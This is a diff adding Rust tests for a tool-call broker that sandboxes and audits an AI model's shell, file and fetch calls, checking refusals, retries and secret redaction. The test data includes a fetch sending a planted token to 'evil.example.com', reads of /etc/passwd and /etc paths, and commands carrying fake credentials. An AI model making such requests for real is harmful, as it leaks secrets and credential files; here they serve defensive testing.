@@ -25,6 +25,8 @@ use proto::tools::ToolName;
 use serde_json::{json, Value};
 use tokio::sync::watch;
 
+mod common;
+
 /// How long any one answer may take before the test calls it hung.
 const PATIENCE: Duration = Duration::from_secs(60);
 const BIG_CHARS: usize = 120_000;
@@ -48,6 +50,10 @@ struct FakeRunner {
     preflight_ok: std::sync::atomic::AtomicBool,
     /// Answer the network preflight as a broken proxy path would (curl finds no proxy).
     network_broken: std::sync::atomic::AtomicBool,
+    /// What the runner reports as a failure no retry can mend.
+    terminal: Mutex<Option<String>>,
+    /// What the runner reports as confinement this host does not apply.
+    weakened: Mutex<Vec<String>>,
 }
 
 impl FakeRunner {
@@ -91,6 +97,14 @@ fn target_of(spec: &RunSpec) -> String {
 }
 
 impl Runner for FakeRunner {
+    fn terminal_failure(&self) -> Option<String> {
+        self.terminal.lock().unwrap().clone()
+    }
+
+    fn weakened(&self) -> Vec<String> {
+        self.weakened.lock().unwrap().clone()
+    }
+
     fn run(&self, spec: &RunSpec) -> Result<RunOutput, RunError> {
         self.specs.lock().unwrap().push(spec.clone());
         self.started.fetch_add(1, Ordering::SeqCst);
@@ -144,6 +158,13 @@ struct Opts {
     audit: Option<PathBuf>,
     max_concurrent_calls: usize,
     refusal_repeats: u32,
+    /// Leave out the `[runner]` section.
+    no_runner: bool,
+    /// Lines added to `[broker]` and to `[runner]`.
+    broker_extra: &'static str,
+    runner_extra: &'static str,
+    /// The first wait before a failed preflight is tried again.
+    preflight_retry: Option<Duration>,
 }
 
 impl Default for Opts {
@@ -153,6 +174,10 @@ impl Default for Opts {
             audit: None,
             max_concurrent_calls: 4,
             refusal_repeats: 5,
+            no_runner: false,
+            broker_extra: "",
+            runner_extra: "",
+            preflight_retry: None,
         }
     }
 }
@@ -203,10 +228,11 @@ audit_log = "{audit}"
 refusal_repeats = {repeats}
 preview_chars = 200
 max_concurrent_calls = {slots}
-
+{broker_extra}
 [runner]
 image = "sha256:{hex}"
 home = "{home}"
+{runner_extra}
 
 [grants.auto]
 mode = "auto"
@@ -235,17 +261,34 @@ paths = [{{ path = "{ro}" }}]
             audit = audit.display(),
             repeats = opts.refusal_repeats,
             slots = opts.max_concurrent_calls,
+            broker_extra = opts.broker_extra,
+            runner_extra = opts.runner_extra,
             hex = "a".repeat(64),
             home = base.join("home").display(),
             rw = rw.display(),
             ro = ro.display(),
         );
+        let text = match opts.no_runner {
+            true => {
+                let runner = format!(
+                    "[runner]\nimage = \"sha256:{}\"\nhome = \"{}\"\n",
+                    "a".repeat(64),
+                    base.join("home").display()
+                );
+                text.replace(&runner, "")
+            }
+            false => text,
+        };
         let config =
             brokerd::config::parse(&text, "service.toml").unwrap_or_else(|e| panic!("{e}"));
         let policy = Policy::new(&config).expect("policy");
         let runner = Arc::new(FakeRunner::default());
         let log = Audit::open(&config.broker.audit_log).expect("audit");
-        let broker = Arc::new(Broker::new(config, policy, runner.clone(), log, "fake"));
+        let mut broker = Broker::new(config, policy, runner.clone(), log, "fake");
+        if let Some(first) = opts.preflight_retry {
+            broker = broker.with_preflight_retry(first);
+        }
+        let broker = Arc::new(broker);
         let rt = tokio::runtime::Builder::new_multi_thread()
             .worker_threads(2)
             .enable_all()
@@ -373,6 +416,11 @@ impl Client {
             "an answer line ends in a newline: {line:?}"
         );
         serde_json::from_str(&line).unwrap_or_else(|e| panic!("not an Answer ({e}): {line}"))
+    }
+
+    /// Sends a request without waiting for its answer.
+    fn send(&mut self, v: Value) {
+        self.send_raw(v.to_string().as_bytes());
     }
 
     fn raw(&mut self, line: &[u8]) -> Answer {
@@ -762,6 +810,48 @@ fn result_paging() {
     assert!(
         message(&p).contains("unknown or expired result_id"),
         "{p:?}"
+    );
+}
+
+/// DESIGN.md "Output": a result_id is 128 random bits and belongs to the uid whose call made
+/// it; any other peer gets the very error an unknown id gets.
+#[test]
+fn result_ids_are_unguessable_and_bound_to_the_caller() {
+    let svc = Service::start();
+    let mut c = svc.connect();
+    let id_of = |a: Answer| match a.body {
+        Body::Result { result_id, .. } => result_id,
+        other => panic!("{other:?}"),
+    };
+    let first = id_of(c.call("s", "r1", "auto", "shell", json!({"command": "cat BIG"})));
+    let second = id_of(c.call("s", "r2", "auto", "shell", json!({"command": "cat BIG"})));
+    for id in [&first, &second] {
+        assert_eq!(id.len(), 32, "{id}");
+        assert!(id.bytes().all(|b| b.is_ascii_hexdigit()), "{id}");
+    }
+    assert_ne!(first, second);
+    let page = |uid: u32, result_id: &str| {
+        let req: proto::broker::Request = serde_json::from_value(
+            json!({"op": "result", "id": "p", "result_id": result_id, "offset": 0}),
+        )
+        .expect("request");
+        let peer = brokerd::broker::Peer { uid, pid: None };
+        svc.rt.block_on(svc.broker.handle(req, peer)).body
+    };
+    assert!(matches!(page(me(), &first), Body::ResultPage { .. }));
+    let other = me().wrapping_add(1);
+    let theirs = page(other, &first);
+    let unknown = page(other, &"0".repeat(32));
+    assert!(matches!(theirs, Body::Error { .. }), "{theirs:?}");
+    let text = |b: &Body| {
+        format!("{b:?}")
+            .replace(&first, "ID")
+            .replace(&"0".repeat(32), "ID")
+    };
+    assert_eq!(
+        text(&theirs),
+        text(&unknown),
+        "the same error as an unknown id"
     );
 }
 
@@ -1263,8 +1353,10 @@ fn over_long_line() {
     });
     let a = c.answer();
     writer.join().unwrap();
-    assert_eq!(kind(&a), "result", "{}", message(&a));
-    assert_eq!(svc.runner.calls(), 1);
+    // Decided: more than toolkit reads, so refused before anything runs.
+    assert_eq!(kind(&a), "refused", "{}", message(&a));
+    assert!(message(&a).contains("split it into smaller calls"));
+    assert_eq!(svc.runner.calls(), 0);
 }
 
 /// A peer not in `clients` gets one error line and is closed; nothing is decided.
@@ -1441,6 +1533,78 @@ fn busy_when_the_queue_is_full() {
         d.contains(&("s".into(), "late".into(), "not_run".into(), "busy".into())),
         "{d:?}"
     );
+}
+
+/// A call that waited for its slot past what is left of loopd's timeout (its limit and the
+/// stop budget no longer fit) answers busy instead of starting; one that did not wait runs.
+#[test]
+fn a_call_that_waited_too_long_answers_busy() {
+    // 30 s of loopd's patience, 12 s of shell and 16 s to kill and remove: 2 s to wait.
+    let svc = Service::with(Opts {
+        max_concurrent_calls: 1,
+        broker_extra: "timeout_ms = 30000",
+        runner_extra: "shell_ms = 12000\nread_file_ms = 2000\nwrite_file_ms = 2000\nhttp_fetch_ms = 1000\negress_start_ms = 500",
+        ..Opts::default()
+    });
+    let mut first = svc.connect();
+    let hold = json!({"command": "cat HOLD"});
+    first.send(call_req("s", "h", "auto", "shell", &hold, None));
+    svc.runner.wait_started(1);
+    let mut second = svc.connect();
+    second.send(call_req(
+        "s",
+        "w",
+        "auto",
+        "shell",
+        &json!({"command": "ls"}),
+        None,
+    ));
+    svc.wait_records(2);
+    std::thread::sleep(Duration::from_millis(2500));
+    svc.runner.release();
+    assert_eq!(kind(&first.answer()), "result");
+    let a = second.answer();
+    assert_eq!(kind(&a), "error", "{a:?}");
+    assert!(message(&a).contains("busy"), "{a:?}");
+    assert_eq!(svc.runner.calls(), 1, "the waiting call never started");
+    let a = second.call("s", "now", "auto", "shell", json!({"command": "ls"}));
+    assert_eq!(kind(&a), "result", "{a:?}");
+    let d = svc.decisions();
+    assert!(
+        d.contains(&("s".into(), "w".into(), "not_run".into(), "busy".into())),
+        "{d:?}"
+    );
+}
+
+/// A write_file over toolkit's standard-input bound is refused before anything runs, with a
+/// reason the model can act on.
+#[test]
+fn a_write_over_the_input_bound_is_refused() {
+    let svc = Service::start();
+    let mut c = svc.connect();
+    let content = "x".repeat(proto::tools::MAX_INPUT);
+    let a = c.call(
+        "s",
+        "big",
+        "auto",
+        "write_file",
+        json!({"path": "big.txt", "content": content}),
+    );
+    assert_eq!(kind(&a), "refused", "{}", kind(&a));
+    assert!(
+        message(&a).contains("split it into smaller calls"),
+        "{}",
+        message(&a)
+    );
+    assert_eq!(svc.runner.calls(), 0);
+    let a = c.call(
+        "s",
+        "small",
+        "auto",
+        "write_file",
+        json!({"path": "s.txt", "content": "x"}),
+    );
+    assert_eq!(kind(&a), "result");
 }
 
 /// After the runner was unavailable in a session, its writes are refused without being
@@ -1699,4 +1863,394 @@ fn network_preflight() {
         let a = c.call("s3", "c3", "auto", "shell", json!({"command": "ls"}));
         assert_eq!(kind(&a), "result", "{a:?}");
     }
+}
+
+/// The repeated-refusal key is (tool, target, refusal): arguments that do not parse are
+/// counted by what they are about, so six different bad URLs or ports are six refusals, while
+/// the same one five times is a stop.
+#[test]
+fn different_bad_arguments_do_not_add_up_to_a_stop() {
+    let svc = Service::start();
+    let mut c = svc.connect();
+    let mut n = 0;
+    let mut ask = |c: &mut Client, url: String| {
+        n += 1;
+        let a = c.call(
+            "s",
+            &format!("u{n}"),
+            "auto",
+            "http_fetch",
+            json!({ "url": url }),
+        );
+        kind(&a)
+    };
+    for i in 0..6 {
+        assert_eq!(
+            ask(&mut c, format!("http://docs{i}.example.org/")),
+            "refused"
+        );
+        assert_eq!(
+            ask(&mut c, format!("https://docs.example.org:{}/", 8000 + i)),
+            "refused"
+        );
+        assert_eq!(
+            ask(&mut c, format!("https://u{i}:p@docs.example.org/")),
+            "refused"
+        );
+    }
+    let same: Vec<&str> = (0..5)
+        .map(|_| ask(&mut c, "http://docs.example.org/".into()))
+        .collect();
+    assert_eq!(
+        same,
+        ["refused", "refused", "refused", "refused", "stopped"]
+    );
+    // The audit holds the target of each (redacted where it holds a secret).
+    let targets: Vec<String> = svc
+        .records()
+        .iter()
+        .filter(|r| r["kind"] == "call")
+        .filter_map(|r| r["target"].as_str().map(str::to_string))
+        .collect();
+    assert!(
+        targets.contains(&"https://docs.example.org:8003/".to_string()),
+        "{targets:?}"
+    );
+}
+
+/// Seed 000 5.1.6: only terminal preflight failures are remembered. A failure for now (of the
+/// start-up or the network preflight) is tried again by a later call once its back-off has
+/// passed, and status says when; until then calls answer unavailable without probing.
+#[test]
+fn a_transient_preflight_failure_is_tried_again() {
+    const RETRY: Duration = Duration::from_millis(300);
+    let svc = Service::with(Opts {
+        preflight_retry: Some(RETRY),
+        ..Opts::default()
+    });
+    let p = svc.rt.block_on(svc.broker.preflight());
+    assert!(!p.ok && !p.terminal, "{p:?}");
+    let mut c = svc.connect();
+    let st = c.status().preflight;
+    assert_eq!(st["terminal"], json!(false), "{st}");
+    let due = st["next_try_in_ms"].as_u64().expect("a next try");
+    assert!(due <= 300, "{st}");
+    let ls = json!({"command": "ls"});
+    assert_eq!(
+        kind(&c.call("s", "c1", "auto", "shell", ls.clone())),
+        "unavailable"
+    );
+    assert_eq!(svc.runner.calls(), 1, "not due: no new probe");
+    std::thread::sleep(RETRY + Duration::from_millis(50));
+    svc.runner.preflight_ok.store(true, Ordering::SeqCst);
+    let a = c.call("s", "c2", "auto", "shell", ls.clone());
+    assert_eq!(kind(&a), "result", "{a:?}");
+    assert_eq!(svc.runner.calls(), 3, "the probe again, then the call");
+    let st = c.status().preflight;
+    assert_eq!(
+        (&st["ok"], &st["next_try_in_ms"]),
+        (&json!(true), &Value::Null),
+        "{st}"
+    );
+
+    // The network preflight the same way.
+    svc.runner.network_broken.store(true, Ordering::SeqCst);
+    let fetch = json!({"url": "https://docs.example.org/x"});
+    assert_eq!(
+        kind(&c.call("s", "f1", "auto", "http_fetch", fetch.clone())),
+        "unavailable"
+    );
+    assert_eq!(
+        kind(&c.call("s", "f2", "auto", "http_fetch", fetch.clone())),
+        "unavailable"
+    );
+    let probes = || {
+        svc.runner
+            .specs()
+            .iter()
+            .filter(|s| s.call == "network")
+            .count()
+    };
+    assert_eq!(probes(), 1);
+    assert!(c.status().preflight["network"]["next_try_in_ms"].is_u64());
+    std::thread::sleep(RETRY + Duration::from_millis(50));
+    svc.runner.network_broken.store(false, Ordering::SeqCst);
+    let a = c.call("s", "f3", "auto", "http_fetch", fetch);
+    assert_eq!(kind(&a), "result", "{a:?}");
+    assert_eq!(probes(), 2);
+}
+
+/// A terminal preflight failure (the sandbox program absent) is remembered: no retry.
+#[test]
+fn a_terminal_preflight_failure_is_remembered() {
+    const RETRY: Duration = Duration::from_millis(100);
+    let svc = Service::with(Opts {
+        preflight_retry: Some(RETRY),
+        ..Opts::default()
+    });
+    *svc.runner.terminal.lock().unwrap() = Some("bwrap is absent: /nope".into());
+    let p = svc.rt.block_on(svc.broker.preflight());
+    assert!(
+        !p.ok && p.terminal && p.detail.contains("bwrap is absent"),
+        "{p:?}"
+    );
+    let mut c = svc.connect();
+    let st = c.status().preflight;
+    assert_eq!(
+        (&st["terminal"], &st["next_try_in_ms"]),
+        (&json!(true), &Value::Null),
+        "{st}"
+    );
+    std::thread::sleep(RETRY * 2);
+    svc.runner.preflight_ok.store(true, Ordering::SeqCst);
+    let a = c.call("s", "c", "auto", "shell", json!({"command": "ls"}));
+    assert_eq!(kind(&a), "unavailable", "{a:?}");
+    assert_eq!(svc.runner.calls(), 1, "never probed again");
+}
+
+/// Seed 003 section 6, DESIGN.md "Service": without `[runner]` brokerd serves, decides and
+/// audits every call, and refuses each one that would run with the fixed reason; what the
+/// grant refuses is refused for its own reason, and status says there is no backend.
+#[test]
+fn without_a_runner_every_call_that_would_run_is_refused() {
+    let svc = Service::with(Opts {
+        no_runner: true,
+        ..Opts::default()
+    });
+    assert!(svc.broker.config().runner.is_none());
+    let mut c = svc.connect();
+    let no_runner = "no tool runner is configured on this host; nothing was run";
+    let read = json!({"path": "a.txt"});
+    let cases = [
+        (
+            "r1",
+            "auto",
+            "read_file",
+            read.clone(),
+            "refused",
+            no_runner,
+        ),
+        (
+            "r2",
+            "auto",
+            "shell",
+            json!({"command": "ls"}),
+            "refused",
+            no_runner,
+        ),
+        (
+            "r3",
+            "ask",
+            "write_file",
+            json!({"path": "w", "content": "x"}),
+            "refused",
+            no_runner,
+        ),
+        (
+            "r4",
+            "readonly",
+            "http_fetch",
+            json!({"url": "https://docs.example.org/"}),
+            "refused",
+            "http_fetch is not one of the tools",
+        ),
+        (
+            "r5",
+            "auto",
+            "read_file",
+            json!({"path": "/etc/passwd"}),
+            "refused",
+            "outside",
+        ),
+    ];
+    for (call, grant, tool, args, want, says) in cases {
+        let a = c.call("s", call, grant, tool, args);
+        assert_eq!(kind(&a), want, "{call}: {a:?}");
+        assert!(message(&a).contains(says), "{call}: {a:?}");
+    }
+    assert_eq!(svc.runner.calls(), 0, "nothing ran, not even a preflight");
+    let decisions = svc.decisions();
+    assert_eq!(decisions.len(), 5, "every call audited: {decisions:?}");
+    assert!(decisions.iter().all(|d| d.2 == "refused"), "{decisions:?}");
+    let status = c.status();
+    assert_eq!(status.backend, "none");
+    assert_eq!(svc.rt.block_on(svc.broker.preflight()).detail, no_runner);
+    assert_eq!(svc.runner.calls(), 0);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Secrets.
+
+/// DESIGN.md "Service": no secret reaches the audit log or the journal, whatever the decision.
+/// Secrets of every shape are planted in every text the model controls (paths, commands,
+/// working directories, URLs, contents, argument names, the tool name), down every path:
+/// allow and run, ask, approve, decline, refuse, stop, fail, unavailable.
+#[test]
+fn no_secret_reaches_the_audit_log_or_the_journal() {
+    let log = common::captured_log();
+    let svc = Service::start();
+    let mut c = svc.connect();
+    let secrets = [
+        "ghp_Pl4ntedPl4ntedPl4ntedPl4ntedPl4nted1",
+        "AKIAPLANTEDPLANTED12",
+        "pl4nted.bearer.value",
+        "pl4ntedUserPw",
+        "PL4NTEDPEMBODY",
+        "pl4ntedOptionPw",
+        "pl4ntedMyPw",
+        "pl4nted spaced",
+        "xoxb-pl4nted-slack-token",
+        "sk-pl4ntedpl4ntedpl4nted",
+        "pl4ntedJsonKey",
+    ];
+    let [gh, aws, bearer, userpw, pem, opt, my, spaced, slack, sk, json_key] = secrets;
+    let rw = svc.rw.display().to_string();
+    let pem_block =
+        format!("-----BEGIN RSA PRIVATE KEY-----\n{pem}\n-----END RSA PRIVATE KEY-----");
+    let command = format!(
+        "GITHUB_TOKEN={gh} git push; curl -H 'Authorization: Bearer {bearer}' https://x.example; mysql -p {my} db; tool --password {opt}; PASSWORD='{spaced}' ls; echo {slack} {sk}; echo '{{\"api_key\": \"{json_key}\"}}'"
+    );
+    let kinds = std::cell::RefCell::new(Vec::new());
+    let call = |c: &mut Client, id: &str, grant: &str, tool: &str, args: Value| {
+        let a = c.call("s", id, grant, tool, args);
+        kinds.borrow_mut().push(kind(&a));
+        a
+    };
+    // Allowed and run.
+    call(
+        &mut c,
+        "run1",
+        "auto",
+        "shell",
+        json!({"command": command, "cwd": rw}),
+    );
+    call(
+        &mut c,
+        "run2",
+        "auto",
+        "read_file",
+        json!({"path": format!("{rw}/{aws}.txt")}),
+    );
+    call(
+        &mut c,
+        "run3",
+        "auto",
+        "write_file",
+        json!({"path": format!("{rw}/{sk}"), "content": pem_block}),
+    );
+    // Asked, approved, declined.
+    let ask = json!({"command": format!("touch x && {command} && echo '{pem_block}'")});
+    let t = ticket(&call(&mut c, "ask1", "ask", "shell", ask.clone()));
+    let approved = c.req(call_req("s", "ask1", "ask", "shell", &ask, Some(&t)));
+    kinds.borrow_mut().push(kind(&approved));
+    let write = json!({"path": format!("{slack}.txt"), "content": gh});
+    let t = ticket(&call(&mut c, "ask2", "ask", "write_file", write));
+    let d = c.req(json!({"op": "decline", "id": "d", "ticket": t}));
+    kinds.borrow_mut().push(kind(&d));
+    // Refused, for every kind of reason, then stopped.
+    let refusals = [
+        ("read_file", json!({"path": format!("/etc/{aws}")})),
+        (
+            "http_fetch",
+            json!({"url": format!("https://alice:{userpw}@docs.example.org/")}),
+        ),
+        (
+            "http_fetch",
+            json!({"url": format!("https://evil.example.com/?token={gh}")}),
+        ),
+        ("shell", json!({"command": "ls", gh: 1})),
+        (
+            "shell",
+            json!({"command": format!("echo {sk} > generated/{slack}")}),
+        ),
+        (gh, json!({"path": "a"})),
+    ];
+    for (i, (tool, args)) in refusals.into_iter().enumerate() {
+        call(&mut c, &format!("ref{i}"), "auto", tool, args);
+    }
+    for i in 0..5 {
+        call(
+            &mut c,
+            &format!("stop{i}"),
+            "safe",
+            "shell",
+            json!({"command": format!("touch {sk} --password {opt}")}),
+        );
+    }
+    // Failed and unavailable.
+    call(
+        &mut c,
+        "fail",
+        "auto",
+        "shell",
+        json!({"command": format!("FAIL {command}")}),
+    );
+    call(
+        &mut c,
+        "unav",
+        "auto",
+        "shell",
+        json!({"command": format!("UNAVAIL {command}")}),
+    );
+    let kinds = kinds.into_inner();
+    for want in [
+        "result",
+        "ask",
+        "declined",
+        "refused",
+        "stopped",
+        "failed",
+        "unavailable",
+    ] {
+        assert!(kinds.contains(&want), "no {want} among {kinds:?}");
+    }
+    let audit = std::fs::read_to_string(&svc.audit).expect("audit");
+    let journal = String::from_utf8_lossy(&log.lock().unwrap()).into_owned();
+    for s in secrets {
+        assert!(!audit.contains(s), "the audit log holds {s:?}:\n{audit}");
+        assert!(!journal.contains(s), "the log holds {s:?}:\n{journal}");
+    }
+    // The records are there, with their decisions, and say what was redacted.
+    let decisions: Vec<String> = svc.decisions().into_iter().map(|d| d.2).collect();
+    for want in [
+        "allow", "ask", "approved", "declined", "refused", "stopped", "ran",
+    ] {
+        assert!(
+            decisions.iter().any(|d| d == want),
+            "no {want} in {decisions:?}"
+        );
+    }
+    assert!(audit.contains("[redacted]"));
+    assert!(audit.contains(r#""executable":"git""#), "{audit}");
+    assert!(
+        journal.contains("session=\"s\"") || journal.contains("session=s"),
+        "the log was captured: {journal}"
+    );
+}
+
+/// DESIGN.md "Limits": a cgroup knob the runner could not set is never silent: audited once as
+/// an event and shown by status.
+#[test]
+fn weaker_confinement_is_audited_and_shown() {
+    let svc = Service::start();
+    let mut c = svc.connect();
+    assert!(c.status().weakened.is_empty());
+    let line = "cpu.max cannot be set in sandbox cgroups: absent".to_string();
+    svc.runner.weakened.lock().unwrap().push(line.clone());
+    for call in ["c1", "c2"] {
+        let a = c.call("s", call, "auto", "shell", json!({"command": "ls"}));
+        assert_eq!(kind(&a), "result", "{a:?}");
+    }
+    assert_eq!(c.status().weakened, vec![line.clone()]);
+    let events: Vec<String> = svc
+        .records()
+        .iter()
+        .filter(|r| r["kind"] == "event")
+        .filter_map(|r| r["reason"].as_str().map(str::to_string))
+        .collect();
+    assert_eq!(
+        events,
+        vec![format!("weaker confinement than configured: {line}")],
+        "audited once"
+    );
 }
